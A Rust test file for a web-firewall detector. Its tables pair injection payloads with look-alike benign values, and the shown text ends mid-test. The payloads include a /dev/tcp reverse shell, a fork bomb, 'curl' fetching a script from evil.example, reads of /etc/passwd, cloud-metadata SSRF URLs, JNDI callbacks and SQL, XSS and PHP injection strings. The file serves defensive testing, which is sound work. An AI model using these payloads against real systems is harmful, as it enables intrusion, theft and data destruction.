//! Attack classes the built-in rules and detectors cover, each next to look-alike
//! legitimate values of the same field kind: the rule must fire on the first column and
//! stay silent on the second.

use rampart_detect::{Budget, Engine, Field, FieldKind, Findings, Location, Policy};

fn scan(kind: FieldKind, value: &str) -> Findings {
    let mut budget = Budget::default();
    Engine::builtin().inspect(
        [Field::new(
            Location::new("query", "v"),
            kind,
            value.as_bytes(),
        )],
        &Policy::default(),
        &mut budget,
    )
}

/// Each attack must be blocked by a rule of `class`; each legitimate value must pass.
fn table(class: &str, kind: FieldKind, attacks: &[&str], legit: &[&str]) {
    let threshold = Policy::default().threshold();
    for a in attacks {
        let f = scan(kind, a);
        assert!(
            f.blocks(threshold) && f.hits.iter().any(|h| h.class == class),
            "{class}: missed {kind} {a:?}: {:?}",
            f.hits
        );
    }
    for l in legit {
        let f = scan(kind, l);
        assert!(
            !f.blocks(threshold),
            "{class}: flagged {kind} {l:?}: {:?}",
            f.hits
        );
    }
}

const Q: FieldKind = FieldKind::QueryValue;

#[test]
fn shell_commands_hidden_by_quoting_versions_prefixes_and_options() {
    table(
        "cmdi",
        Q,
        &[
            "'wh'oami",
            "'c'url localhost",
            "cu$@rl google.com",
            "pi``ng 127.0.0.1",
            "pi$()ng 127.0.0.1",
            "python3.10 -c 'import os'",
            "env --version",
            "ansible all -m ping",
            "nohup ifconfig\n",
            "sudo whoami\n",
            "Invoke-WebRequest http://example.com/path/file.ps1",
            "curl https://evil.example/x.sh",
            "alias ls='rm -rf /'",
            "cat <(id)",
            "x=$((7*7))",
            "${PATH#/usr}",
            "${SHELL} -c \"id\"",
        ],
        &[
            "I'd like that",
            "don't stop believing",
            "O'Keefe's pub",
            "<item>Book &amp; CD</item>",
            "Book & CD</item>",
            "time python tutorial",
            "python 3.10 release notes",
            "pip install guide",
            "env variables explained",
            "sudo make me a sandwich",
            "curl up with a good book",
            "alias for the account",
            "Hello ${name}",
            "a smiley >(",
        ],
    );
}

#[test]
fn ssrf_without_slashes_or_scheme() {
    table(
        "ssrf",
        Q,
        &[
            "http:127.0.0.1",
            "http:/2852039166",
            "https:[::1]/admin",
            "localhost/admin",
            "host.docker.internal:2375/containers/json",
            "kubernetes.default.svc.cluster.local/api",
        ],
        &[
            "localhost",
            // A public host without slashes is no SSRF (as a whole value it is
            // redirect-002's: browsers leave the site for it).
            "visit http:example.com",
            "see http: and https: schemes",
            "my laptop is not localhost-friendly",
            // A host name that starts like hex; a bare hex number is evasion-003's.
            "http://0xABCDEF.example/",
        ],
    );
    // A Host header naming the local machine is not a forged URL; the metadata service is
    // one anywhere, as a whole value.
    table(
        "ssrf",
        FieldKind::HeaderValue,
        &[
            "169.254.169.254",
            "metadata.google.internal",
            "[fd00:ec2::254]:80",
            "100.100.100.200/latest/meta-data/",
        ],
        &[
            "localhost:8080",
            "10.0.0.5",
            "metadata",
            "169.254.10.20",
            "see 169.254.169.254 in the AWS docs",
        ],
    );
    table(
        "ssrf",
        Q,
        &["169.254.169.254:80/latest/user-data", " instance-data "],
        &["192.168.1.10", "metadata.json", "instance-data-export.csv"],
    );
    // Normalisation merged the `//` of a URL carried in the path.
    table(
        "ssrf",
        FieldKind::Path,
        &[
            "/items/http:/169.254.169.254/latest/meta-data/",
            "/proxy/https:/[::ffff:a9fe:a9fe]/",
            "/fetch/http:/0251.0376.0251.0376/",
        ],
        &[
            "/proxy/https:/www.example.com/page",
            "/docs/http:/intro",
            "/wiki/HTTP:_Status_codes",
        ],
    );
}

#[test]
fn java_gadgets_in_base64_and_by_package() {
    table(
        "java",
        FieldKind::BodyValue,
        &[
            // "runtime" at each of the three base64 alignments.
            "cnVudGltZQ",
            "HJ1bnRpbWU",
            "BydW50aW1l",
            // java.lang.Runtime inside a longer blob.
            "amF2YS5sYW5nLlJ1bnRpbWU=",
            "rO0ABXNyADJvcmcuYXBhY2hlLmNvbW1vbnMuY29sbGVjdGlvbnMuZnVuY3RvcnMuSW52b2tlclRyYW5zZm9ybWVy",
            "com.opensymphony.xwork2.ActionContext",
            "java.Runtime",
        ],
        &[
            "SGVsbG8gV29ybGQ=",
            "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.c2lnbmF0dXJl",
            "The Java runtime ships with the JDK",
            "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk",
        ],
    );
}

#[test]
fn php_code_tags_callables_variable_functions_and_uploads() {
    table(
        "php",
        Q,
        &[
            "{php}echo 'test';{/php}",
            "[php]echo \"test\"",
            "(system)('uname')",
            "\"system\"(ls);",
            "[system][0](ls);",
            "${'ff'}",
            "$ {$a}",
            "$__[$_[1]](7)",
            "$a/*c*/()",
            "$foo->$funcname()",
            "Foo::$variable()",
        ],
        &[
            "PHP is a programming language",
            "price: $5 (five dollars)",
            "the system (as a whole) works",
            "[PHP developers] wanted",
            "Hello ${name}",
        ],
    );
    table(
        "php",
        FieldKind::Filename,
        &[
            "shell.php..",
            "a.php5...",
            "uploads/dangerous.php",
            "x.phtml",
            "/tmp/sess_d8ew88tqmabdcokhumchy8htqm",
        ],
        &["report.pdf", "notes on php.txt", "session_notes.txt"],
    );
}

#[test]
fn php_calls_need_arguments_and_include_needs_a_php_path() {
    table(
        "php",
        Q,
        &[
            "system('id');",
            "exec($_GET['c'])",
            "assert($_POST['c'])",
            "assert(\"system('id')\")",
            "assert(base64_decode('c3lzdGVtKCdpZCcp'))",
            "printf(foo)",
            "posix_kill(1234, 9)",
            "phpinfo()",
            "getenv()",
            "include('/tmp/shell.php');",
            "require($_GET['file'])",
            "include_once(\"php://input\")",
            "require('http://203.0.113.9/x.txt')",
            "include('uploads/avatar.jpg')",
            "require(__DIR__ . '/x')",
            "require('a' . $b)",
            "strrev( )",
            "chroot\t()",
            "gethostbyname(",
            "system()",
            " passthru ( ); ",
        ],
        &[
            "fopen() failed, see the log",
            "exec() in the child process",
            "Flush all output before system().",
            "see exec(5) and printf(3)",
            "const { join } = require('node:path');",
            "const lodash = require('lodash');",
            "const foo = require('./foo');",
            "require() hack by a contributor",
            "assert(ret == Z_OK);",
            "assert(out != NULL);",
            "fopen()",
            "call system() twice",
        ],
    );
    table(
        "nodejs",
        Q,
        &[
            "require('child_process').exec('id')",
            "require('node:child_process').execSync('id')",
            "require(\"node:fs\").readFileSync('/etc/hosts')",
        ],
        &["require('node:util')", "node: a fs mount"],
    );
}

#[test]
fn sensitive_paths_as_a_value_not_as_words_of_a_sentence() {
    table(
        "lfi",
        Q,
        &[
            "/etc/passwd",
            "  /etc/shadow",
            "file:///etc/passwd",
            "....//....//etc/passwd",
            "x=/proc/self/environ",
            "<!--#include file=\"/etc/passwd\"-->",
            "see /etc/passwd",
            "read\n/etc/shadow\n",
            "load_file('/etc/passwd')",
            "see+/etc/passwd",
            "www.example.com;c$?at+/etc/passwd",
            "see%20/etc/passwd",
            "x%2f..%2f..%2fetc/passwd",
            "2020/etc/passwd",
            "/var/log/apache2/access.log",
            "../../var/log/nginx/error.log",
            "/var/log/auth.log",
            "/var/log/httpd/access_log",
            "/var/www/html/config.php",
            "/var/lib/php/sessions/sess_abc123",
            "/var/lib/mysql/mysql/user.MYD",
            "/var/lib/jenkins/secrets/initialAdminPassword",
        ],
        &[
            "The files /etc/passwd and /etc/group are read at login.",
            // A raw query value: `%20` is a space once decoded.
            "The%20file%20is%20/etc/nginx/nginx.conf%20on%20most%20distros,%20right?",
            "search domain from /etc/resolv.conf as additional",
            "NFS file system in /proc/mounts -- e.g.,",
            "Create /var/log/journal on upgrade",
            // Markdown code spans: no include reads a backticked path.
            "Logs are written to `/var/log/acme/agent.log` on Linux.",
            "Edit `/etc/hosts` and restart",
            "Logs%20are%20in%20%60/var/log/acme/agent.log%60%20on%20Linux.",
            // An application's own log, as log shippers and configs name it.
            "/var/log/app/worker.log",
            "/var/log/acme",
            // Package and data directories that cleanup and monitoring name.
            "node_filesystem_avail_bytes{mountpoint=\"/var/lib/postgresql\"}",
            "/var/lib/apt/lists/",
            "/var/lib/app/data",
        ],
    );
}

#[test]
fn python_subprocess_calls_with_a_command_not_its_documentation_or_tracebacks() {
    table(
        "code",
        Q,
        &[
            "subprocess.check_output(['id'])",
            "import subprocess;subprocess.Popen('id', shell=True)",
            "subprocess . call ( 'ls' )",
            "c='id';subprocess.run(c, shell=True)",
            "subprocess.run(base64.b64decode('aWQ=').decode())",
            "subprocess.getoutput(f\"cat {p}\")",
        ],
        &[
            "Traceback (most recent call last):\n  File \"/app/worker.py\", line 88, in run\n    result = subprocess.run(cmd, check=True)\nsubprocess.CalledProcessError: Command '['convert', 'in.png']' returned non-zero exit status 1.",
            "The `subprocess.kill()` method sends a signal",
            "error handle passed to the subprocess.",
            "<code>subprocess.stderr</code> is a stream",
            "A bufsize value of 0 in subprocess.Popen() really",
        ],
    );
}

#[test]
fn absolute_paths_climbing_out_of_a_directory() {
    for kind in [Q, FieldKind::HeaderValue] {
        table(
            "lfi",
            kind,
            &[
                "/admin/../internal/debug/pprof",
                "/public/..;/admin",
                "/static/../",
                "/api/v1/users/..",
            ],
            &[
                "/docs/getting-started",
                "Review the ../docs folder",
                "/usr/local/bin",
                "/a/b/...",
                "/releases/v1.2..v1.3",
            ],
        );
    }
}

#[test]
fn scanner_probes_for_templates_and_out_of_band_hosts() {
    table(
        "ssti",
        Q,
        &[
            "{7*7}",
            "[[7*7]]",
            "[(7*'7')]",
            "{@math key=7 method=\"multiply\" operand=7/}",
            "{@contextDump/}",
            "{{[0]|reduce('system','id')}}",
            "{{['id']|sort('passthru')}}",
            "{{ '%c%c'|format(95,95) }}",
            "{{ ''|attr('%c%cclass%c%c'|format(95,95,95,95)) }}",
            "{{ \"%c\"|format(95) }}",
        ],
        &[
            "{{ \"%.2f\"|format(item.price) }} {{ currency }}",
            "{{ '%d items'|format(count) }}",
            "{{ items|sort }}",
            "{{ posts|filter(p => p.published) }}",
            "{a, b}",
            "{x | x > 0}",
            "The area is {7*7} cm2 wide",
            "[[Main Page]]",
            "email me at a@b.example {at} noon",
        ],
    );
    table(
        "oast",
        Q,
        &[
            "http://abc123.oastify.com/x",
            "x; nslookup q1w2e3.interact.sh",
            "${jndi:ldap://u7.c5h2.oast.fun/a}",
            "\\\\smb.9f8e.burpcollaborator.net\\share",
            "k3j4.dnslog.cn",
        ],
        &[
            "We used Burp Collaborator (burpcollaborator.net) in the test",
            "interact.sh is an open-source OAST tool",
            "https://www.boast.pro/pricing",
        ],
    );
}

#[test]
fn the_northwind_sample_database_but_not_a_company_of_that_name() {
    table(
        "sqli",
        Q,
        &[
            "x'; USE Northwind--",
            "SELECT * FROM Northwind.dbo.Customers",
        ],
        &[
            "<img alt=\"Northwind Coffee\" src=\"https://cdn.example.com/logo.png\">",
            "We use Northwind Traders data in the tutorial",
            // A brand or the company as a whole value (a feed's <g:brand>).
            "Northwind",
        ],
    );
    // Named alone where a database-name probe puts it: a parameter name, a raw body.
    table(
        "sqli",
        FieldKind::QueryName,
        &["Northwind"],
        &["northwind_id"],
    );
    table("sqli", FieldKind::BodyText, &["northwind"], &[]);
}

#[test]
fn whole_sql_statements_as_a_value_but_not_menu_labels() {
    table(
        "sqli",
        Q,
        &[
            "SELECT * FROM users",
            "select username, password from accounts",
            "SELECT password FROM users WHERE id = 42",
            "SELECT password FROM users;",
            "DROP TABLE users",
            "drop database if exists prod;",
            "TRUNCATE TABLE audit_log",
            "DELETE FROM orders WHERE 1",
            "SHOW DATABASES",
            "show tables;",
            "ALTER TABLE users ADD is_admin int",
            "EXEC sp_who",
            "exec master..xp_cmdshell 'dir'",
        ],
        &[
            "Select your plan from the list",
            "select all from the menu",
            "Select name from list",
            "Delete from cart",
            "delete from the list",
            "Drop table of contents",
            "Show tables and charts",
            "Alter table layout",
            "execute the plan",
        ],
    );
}

#[test]
fn yaml_object_tags_and_template_polyglots() {
    table(
        "code",
        Q,
        &[
            "!!python/object/apply:os.system [\"id\"]",
            "key: !!python/name:subprocess.Popen",
            "--- !ruby/object:Gem::Installer\ni: x",
            "!!ruby/hash:ActionController::Routing::RouteSet::NamedRouteCollection",
        ],
        &[
            "!!python is great",
            "items: !!str 42",
            "tags: [ruby, object]",
            "see ruby/object.c in the source",
        ],
    );
    table(
        "ssti",
        Q,
        &["${{<%[%'\"}}%\\.", "{{<%", "#{[%x", "<%${{"],
        &[
            "<%= name %> and ${price}",
            "50% {{discount}}",
            "{{ item }} <% end %>",
            "[%] of {{total}}",
        ],
    );
}

#[test]
fn node_console_calls_count_as_probes_and_child_process_only_when_loaded() {
    table(
        "nodejs",
        Q,
        &[
            "console.info(1)",
            "console.log(7*7+1)",
            "console.log(document.cookie)",
            "console['log'](x)",
            "console.log.call(null, 1)",
            "global.process.mainModule.constructor._load('child_process')",
            "require.main.constructor._load(child_process).spawn('id')",
            "new Function('return process')()",
        ],
        &[
            "console.log(buf);",
            "console.log('Stream is done reading.');",
            "console.error(err)",
            "See child_process.spawn for the options.",
            "<code>child_process</code> module",
            "* mark_rts.c (GC_push_all_stack_frames): New function (only if",
        ],
    );
}

#[test]
fn node_deserialization_and_sandbox_escapes() {
    table(
        "nodejs",
        Q,
        &[
            "_$$ND_FUNC$$_function(){require('child_process').exec('id')}",
            "this.constructor.constructor('return process')()",
            "module.exports = function(){}",
            "process[\"env\"]",
            "require[req.query.a",
        ],
        &[
            "the process of elimination",
            "a constructor in Java",
            "module exports and imports",
            "process[0]",
        ],
    );
}

#[test]
fn xss_through_comments_brackets_templates_and_encodings() {
    table(
        "xss",
        Q,
        &[
            "document /*foo*/ .     cookie",
            "document/*foo*/./*bar*/cookie",
            "window[\"alert\"](1)",
            "(document)[\"cookie\"]",
            "self[\"\\x24\"]",
            "[].sort.call`${alert}1337`",
            "document.querySelector(\"p\").textContent=\"XSS\"",
            "document.getElementById('login').action='//x.example/steal'",
            "document.getElementsByTagName('form')[0].submit()",
            "!![]",
            "(![]+[])[+[]]",
            "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
            "<v:vmlframe src=\"foo.com/sup.fml\"/>",
            "<?import implementation =",
        ],
        &[
            "the document cookie policy",
            "open the window",
            "![](image.png)",
            "call me maybe",
            "C++ADw is not a thing",
            "<p>Mount the app with <code>document.getElementById('app')</code> and call <code>render()</code> once the DOM is ready.</p>",
            "use document.querySelectorAll('.card') to get a NodeList",
        ],
    );
}

#[test]
fn sqli_casts_json_operators_and_cut_short_tautologies() {
    table(
        "sqli",
        Q,
        &[
            "OR '{\"b\":2}'::jsonb <@ '{\"a\":1, \"b\":2}'::jsonb",
            "starts_with(password,'a')::int",
            "1'::int",
            "admin' or 'x' <",
            "test' or 1=",
            "x' xor abc=",
        ],
        &[
            "std::string and std::vector",
            "Tom's or Jerry's = friends",
            "O'Reilly and others",
            "rock 'n' roll or jazz",
            "ratio 3::1",
        ],
    );
}

#[test]
fn session_identifiers_of_common_frameworks_in_urls() {
    table(
        "fixation",
        FieldKind::QueryName,
        &[
            "PHPSESSid",
            "laravel_session",
            "connect.sid",
            "_flask_session",
            "next-auth.session-token",
            "ci_session",
            "koa:sess",
        ],
        &["session_id", "sessions", "sid_list", "page", "csrf_token"],
    );
    // A cookie string quoted in a value names no parameter of the request.
    table(
        "fixation",
        Q,
        &[],
        &[
            "JSESSIONID=9A3F1C2B7D8E4F6A0B1C2D3E4F5A6B7C.node1; Path=/; Secure; HttpOnly",
            "ASP.NET_SessionId=vq2kz3h1f5mxb0yq4ncw2e1r; .AspNetCore.Culture=c=en-GB|uic=en-GB",
        ],
    );
}

#[test]
fn admin_commands_standing_alone_and_mail_commands_after_a_line_break() {
    table(
        "cmdi",
        Q,
        &[
            "visudo",
            "nohup ifconfig",
            "time ifconfig",
            "ansible-vault decrypt secret",
            "'cscli' alerts list",
            "chef-shell",
            "strace who",
            "chmod 777 /tmp/x",
            "alias +m a=b",
            "bin/visudo",
            "/usr/bin/python3 -m http.server",
            "pi<()ng 127.0.0.1",
            "1;.shell whoami",
            "d=/dev&&(sh)0>$d/tcp/10.0.0.1/777",
            "f(){ f|f& };f",
            "() {",
        ],
        &[
            "how to read ifconfig output",
            "how do I use visudo safely?",
            "ansible-httpget",
            "nohup",
            "chmod permissions tutorial",
            "time flies like an arrow",
            "bin/",
            "ping me at 10",
            "v1.2.shell",
            "myfunction(){ echo hello }",
            "function () { return x }",
        ],
    );
    table(
        "mail",
        Q,
        &[
            "\r\na001 EXAMINE INBOX",
            "\r\nRETR 123",
            "\r\nQUIT",
            "\nA1 list \"INBOX/\" \"*\"",
        ],
        &[
            "Dear team,\r\nquit smoking today",
            "line one\r\nlist of items",
            "a001",
        ],
    );
}

#[test]
fn sql_breaks_commented_out_opened_with_operators_or_keywords() {
    table(
        "sqli",
        Q,
        &[
            "x'|email--",
            "id'not like id--",
            "user'collate nocase--",
            "z'or email notnull--",
            "'alter a",
            "\" UNION A",
            "xor 2 <",
            "or 'a' >",
            "OR 1#",
            "OR '{\"a\":\"b\"}' ?| array['a']",
            "OR '{\"a\":2}' -> '$.a' = 2",
            "DROP sampletable;--",
            "SELECT/*x*/password/**/FROM/**/Members",
            "2010-01-01' sleep(20.to_i) '",
            "1 AS \"foobar\" FROM t",
        ],
        &[
            "it's -- great",
            "'Union Square' is busy",
            "l'union européenne",
            "or else! and then?",
            "Is it 1 or 2? 3 maybe",
            "x -> y",
            "drop it",
            "exec (",
            "Rock 'n' roll --",
            "2 as well from here",
        ],
    );
}

#[test]
fn ldap_breakouts_next_to_whole_filters() {
    table(
        "ldap",
        Q,
        &[
            "eb9adbd87d)!(sn=*",
            "value)(gidNumber<=100",
            "john)(sn~=smith",
            "val)&(cn=admin",
            "test) ( & ",
            "*(|(objectclass=*))",
            "admin)(",
        ],
        &[
            "(&(objectCategory=computer)(userAccountControl:1.2.840.113556.1.4.803:=8192))",
            "(userAccountControl:1.2.840.113556.1.4.803:=67108864)(&(objectCategory=group))",
            "(a+b)*c",
            "(1+2)+(3+4)",
            "call me (maybe) later",
        ],
    );
}

#[test]
fn php_tags_need_code_and_callables_built_from_strings() {
    table(
        "php",
        Q,
        &[
            "<?php echo 1; ?>",
            "<? php echo \"test\"",
            "<?xml :echo 1;",
            "<?xml ();echo 1;",
            "(sy.(st).em)('uname');",
            "(['system'])[0]('uname');",
            "$y = 'sys'.'tem';($y)('uname');",
            "define('x', 'sys' . 'tem');(x)/* c */('uname');",
            "fopen  (blah)",
            "exec //comment\r\n (blah)",
        ],
        &[
            "<?php",
            "&lt;? should not trigger",
            "<?xml version=\"1.0\"?>",
            "<?xml-stylesheet href=\"a.xsl\"?>",
            "see (page 4)('quoted') below",
        ],
    );
    table(
        "ssti",
        Q,
        &["<%= 7*7 %>", "<%= system('id') %>", "<%= if True %>"],
        &["<%=title%>", "<%= title %>"],
    );
    table(
        "nodejs",
        Q,
        &["while(!``);", "while(new Date);", "while(!!1);"],
        &["while(!true);", "while (running) {"],
    );
}

#[test]
fn protocol_smuggling_and_serialized_java_at_every_alignment() {
    table(
        "protocol",
        FieldKind::HeaderValue,
        &["application/x-www-form-urlencoded;boundary=\"application/json\""],
        &[
            "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxk",
            "text/html; charset=UTF-8",
            "application/json",
        ],
    );
    table(
        "java",
        FieldKind::BodyValue,
        &["KztAAU", "Cs7QAF", "rO0ABQ"],
        &["KztAA", "s7QA", "eyJ0eXAiOiJKV1QifQ"],
    );
    table(
        "ssrf",
        Q,
        &[
            "http://7147006462/",
            "acap://①②⑦.⓪.⓪.①",
            "irc://ⓛⓞⓒⓐⓛⓗⓞⓢⓣ",
            "http://169。254。169。254/",
            "http://google.com:80 &@127.88.23.245:22/",
        ],
        &[
            "http://example.com/",
            "mailto:bob@example.com",
            "https://example.org/a@b",
        ],
    );
}

#[test]
fn parameter_pollution_proxy_sockets_and_cookie_versions() {
    table(
        "protocol",
        FieldKind::QueryName,
        &["foo[1]a", "foo[1]a[2]"],
        &["foo[1]", "foo[]", "a[b][c]", "filter"],
    );
    table(
        "protocol",
        Q,
        &["unix:AAAAAAAA|http://example.com/"],
        &["unix: a|b", "http://unix.example/"],
    );
    table(
        "protocol",
        FieldKind::CookieName,
        &["$Version"],
        &["version", "$ver"],
    );
    // A line break in the path is malformed (URL normalisation answers 400); an attack
    // only in the PHP-FPM shapes of CVE-2019-11043.
    table(
        "protocol",
        FieldKind::Path,
        &[
            "/index.php/PHP_VALUE\nsession.auto_start=1",
            "/index.php/PHP\ninfo.php",
            "/x/PHP_ADMIN_VALUE\rallow_url_include=1",
        ],
        &[
            "/foo/bar",
            "/a-b_c.txt",
            "/Line one\nLine two",
            "/notes/a\rb",
        ],
    );
    // Path parameters holding code: a PHP call on a variable, not a GraphQL operation
    // declaring its typed variables.
    table(
        "php",
        FieldKind::Path,
        &["/x/substr($x)", "/a/system($_GET[c])", "/eval($a.$b)"],
        &[
            "/query GetUser($id: ID!) { user(id: $id) { name } }",
            "/Search($q : String)",
        ],
    );
    table(
        "lfi",
        FieldKind::Path,
        &["/@fs/etc/passwd", "/@id/__x00__"],
        &["/users/@me", "/@scope/package"],
    );
    table(
        "crlf",
        Q,
        &["x\r\nRemote-Addr: 10.0.0.1", "x\r\nLocation: http://a/"],
        &["x\r\nLocation:\r\n", "notes\r\nlocation"],
    );
}

#[test]
fn unfinished_sql_calls_and_bare_literal_comparisons() {
    table(
        "sqli",
        Q,
        &[
            "rand(",
            "Rand (",
            "concat (",
            "IN/**/(",
            "md5\\(",
            "version=(",
            "length||(",
            "pay=floor(",
            "1=1",
            "42 like 42",
            "11!=1",
            "42<=>42",
            "'a'='a'",
            "OR (7319=8742)",
            "&&(l=!0)",
            "||(e =\"",
            "AND (name = \"",
            "pay=OR (7319=8742)",
            "pay= SET @OLD_SQL_NOTES",
        ],
        &[
            "my day :(",
            "no time ;(",
            "Just in case (abc)",
            "booked for 2021(including 2020",
            "Sleep(8 hours) is healthy",
            "rand (the currency) rates",
            "version 2 (beta)",
            "123<456",
            "2+2=4 is basic math",
            "1 or 2 items",
            "x=1&y=2",
            "a=b",
            "or (see above) later",
            "and (as noted) more",
            "name=O'Reilly",
        ],
    );
}

#[test]
fn bare_calls_of_snake_case_functions() {
    table(
        "php",
        Q,
        &[
            "is_array()",
            "array_diff (",
            "ldap_get_entries()",
            "FOOcall_user_func()",
            "tidy_parse_string( )",
        ],
        &[
            "my_file(1).jpg",
            "snake_case",
            "user_id",
            "see my_notes (page 2)",
            "call me (maybe)",
            "hello()",
        ],
    );
}

#[test]
fn urls_with_a_host_in_their_user_info_and_shell_brace_lists() {
    table(
        "rfi",
        Q,
        &[
            "http://example.com%2f@evil.com/",
            "http://example.com%2f:foo@bar@evil.com/",
            "https://trusted.example.com@evil.net/x",
        ],
        &[
            "https://example.com/page",
            "https://example.com/users/@alice",
            "ftp://user:secret@files.example.org/pub",
            "mailto:bob@example.com",
            "alice@example.com",
        ],
    );
    table(
        "cmdi",
        Q,
        &["{,echo,#test}", "{,$'whoami',}", "x {,ls,-la}"],
        &[
            "{1,2,3}",
            "{\"a\":1,\"b\":2}",
            "set {a, b}",
            "f(x) = {x, y}",
        ],
    );
}

#[test]
fn a_form_body_ending_in_a_newline_is_not_a_broken_name() {
    let threshold = Policy::default().threshold();
    let key = |v: &str| scan(FieldKind::BodyKey, v);
    assert!(!key("\"! Y\n").blocks(threshold));
    assert!(!key("comment\r\n").blocks(threshold));
    assert!(key("a\r\nSet-Cookie: x=1").blocks(threshold));
    assert!(key("\nname").blocks(threshold));
    assert!(scan(FieldKind::QueryName, "parameter\r\n").blocks(threshold));
}

#[test]
fn script_sinks_reached_through_call_apply_chaining_and_computed_globals() {
    table(
        "xss",
        Q,
        &[
            "confirm.call(null,1)",
            "alert.apply(null, [1])",
            "prompt . bind(window)(1)",
            "alert?.(document?.cookie)",
            "\" autofocus onfocus=(confirm)(1)//",
            "(alert)/**/`1`",
            "window[document.body.innerText.charAt(0)+'lert'](1)",
            "top[8680439..toString(30)]()",
            "<ahref=\"javascript:window[/alert/.source]()\">x</a>",
            "javascript:%20%5C%5C%5C%5Ct",
        ],
        &[
            "Please confirm. Call me tomorrow (after 5)",
            "alert: the call (from Bob) failed",
            "Status (alert) (see below)",
            "Open the window [if needed] (left side)",
            "top [10] (of the list)",
            "evaluation.call(x)",
            "JavaScript: Basics of JavaScript Language",
            "JavaScript:%20Basics%20of%20JavaScript%20Language",
            "javascript: the good parts",
        ],
    );
    table(
        "xss",
        FieldKind::HeaderValue,
        &["<marquee+loop=1+width=0+onfinish='new+Function`al\\ert\\`1\\``'>"],
        &["a<b+c", "C++ <vector+list>", "x<y+1"],
    );
    table(
        "xss",
        FieldKind::Path,
        &[
            "/\"onwheel=ead(111)",
            "/a/'onfocus=x",
            "/alert?.(document?.cookie)",
            "/window[document.body.innerText.charAt(0)+'lert'](1)",
        ],
        &["/search/\"onion rings\"", "/a/b/\"on\""],
    );
}

#[test]
fn api_probes_introspection_oob_domains_and_esi() {
    table(
        "graphql",
        Q,
        &[
            "{ __schema { types { name } } }",
            "query IntrospectionQuery { x }",
            "{ __type(name: \"User\") { fields { name } } }",
        ],
        &[
            "{ user(id: 1) { name email } }",
            "the __schema folder",
            "my_type(name) is fine",
        ],
    );
    table(
        "scanner",
        Q,
        &[
            "http://w63gecoroprj5um8ypnd7r6in9t0hseg3.interact.sh/x",
            "|getent hosts somehost.burpcollaborator.net &",
            "x.oastify.com",
        ],
        &[
            "https://interact.example.com/sh",
            "see oast. for details",
            "burp collaborator docs",
        ],
    );
    table(
        "scanner",
        FieldKind::HeaderValue,
        &[
            "Microsoft WinRM Client OpenVASVT",
            "Fuzz Faster U Fool v2.0.0",
            "mercuryboard_user_agent_sql_injection.nasl'",
        ],
        &[
            "Mozilla/5.0 (X11; Linux x86_64) Firefox/121.0",
            "okhttp/4.12.0",
        ],
    );
    table(
        "ssi",
        Q,
        &[
            "Safari/537.36<esi:include src=\"http://example.net/rpb.png\"/>",
            "<esi:vars>$(HTTP_COOKIE)</esi:vars>",
        ],
        &["mesi:include", "<esi>", "esi: include the file"],
    );
}

#[test]
fn nosql_breakouts_unc_admin_shares_and_asp_shells() {
    table(
        "nosql",
        Q,
        &[
            "', $or: [ {}, { 'order':'order",
            "x\", \"$ne\": 1, \"a\": \"",
            "{\"$and\": [{}]}",
            "x'; $or: [ {}, { 'a':'a",
            "\"; $nor: [{}]",
        ],
        &[
            "$5 or less",
            "prices: $10, $20",
            "or: [a, b]",
            "x, $ne",
            "it's; $or: the price",
            "'quoted'; $5 or [more]",
        ],
    );
    table(
        "lfi",
        Q,
        &[
            "\\\\::1\\c$\\users\\default\\ntuser.dat",
            "\\\\fileserver\\admin$\\x",
            "//10.0.0.5/c$/windows",
            "C:\\Users\\bob\\NTUSER.DAT",
            "C:%5CUsers%5Cntuser.dat",
            "%5C%5Cfileserver%5Cc$%5Cwindows",
        ],
        &[
            "\\\\fileserver\\shared\\report.docx",
            "https://example.com/a$b",
            "price: US$ 5",
        ],
    );
    table(
        "code",
        Q,
        &[
            "Ev al (\"Ex\"&\"e\"&\"cute(\"\"Server.ScriptTimeout=3600\"\")",
            "On Error Resume Next",
            "execute(request(\"x\"))",
            "Set o = CreateObject(\"WScript.Shell\")",
        ],
        &[
            "no error, resume next week",
            "the server timed out",
            "\"rock\" & \"roll\"",
            "Execute the request today",
        ],
    );
}

#[test]
fn header_injection_through_body_fields_and_truncated_cjk_line_breaks() {
    table(
        "crlf",
        FieldKind::BodyValue,
        &[
            "\r\nSet-Cookie:crlf=injection",
            "?\rSet-Cookie:crlf=injection",
            "%\n\nSet-cookie:crlf=injection",
            "嘍Set-cookie:crlf=injection",
            "%0d%0aX-Injected: 1",
            "value%0D%0ALocation:%20http://example.net/",
            "me@example.com%0aBcc:%20list@example.net",
        ],
        &[
            "Dear support,\nSet-Cookie: headers are missing in my response",
            "line one\nline two",
            "嘍 is a character",
            "mailto:me@example.com?body=Hello%0D%0AName:%20Bob",
            "https://example.com/?q=a%0Ab:c",
            "Notes:\nX-ray: booked for Monday",
        ],
    );
    table(
        "crlf",
        Q,
        &["\r\nX-Injected: 1", "x\nX-Forwarded-Host: evil.example"],
        &["line one\nX marks the spot", "a\nx: y"],
    );
    table(
        "crlf",
        FieldKind::Path,
        &[
            "/嘍嘊Set-cookie:crlf=injection",
            "/a/嘊Location: http://example.net",
        ],
        &["/嘍/location", "/docs/嘊"],
    );
    table(
        "crlf",
        FieldKind::CookieValue,
        &[
            "x\nSet-Cookie: sid=1",
            "x\r\nAnything: 1",
            "x\nLocation: https://evil.example/",
            "x\nX-Forwarded-Host: evil.example",
        ],
        &[
            "Q: How long do I boil eggs?\nA: 6 minutes, then ice bath.",
            "services:\n  db:\n    image: postgres:15",
            "Contact: mailto:security@example.com\nExpires: 2025-12-31T23:00:00.000Z",
        ],
    );
}

#[test]
fn union_glued_to_a_comment_before_select() {
    table(
        "sqli",
        Q,
        &[
            "<F5>/strrr/821} union # distinctrow/**/select 1,2,3--{<F5>/**/TRUE",
            "1 union--x\nselect 1",
            "0 UNION/**/ALL SELECT null",
        ],
        &[
            "union was a great select",
            "the union # 5 selected me",
            "credit union -- all branches",
        ],
    );
}

#[test]
fn xml_schema_and_include_references_that_make_a_parser_fetch() {
    let threshold = Policy::default().threshold();
    let at = |name: &str, value: &str| {
        Engine::builtin().inspect(
            [Field::new(
                Location::new("xml", name.to_owned()),
                FieldKind::BodyValue,
                value.as_bytes(),
            )],
            &Policy::default(),
            &mut Budget::default(),
        )
    };
    let attacks = [
        ("/x/@xsi:schemaLocation", "http://xxe.example.net/ x.xsd"),
        (
            "/x/@xsi:schemaLocation",
            "urn:a http://xxe.example.net/x.xsd",
        ),
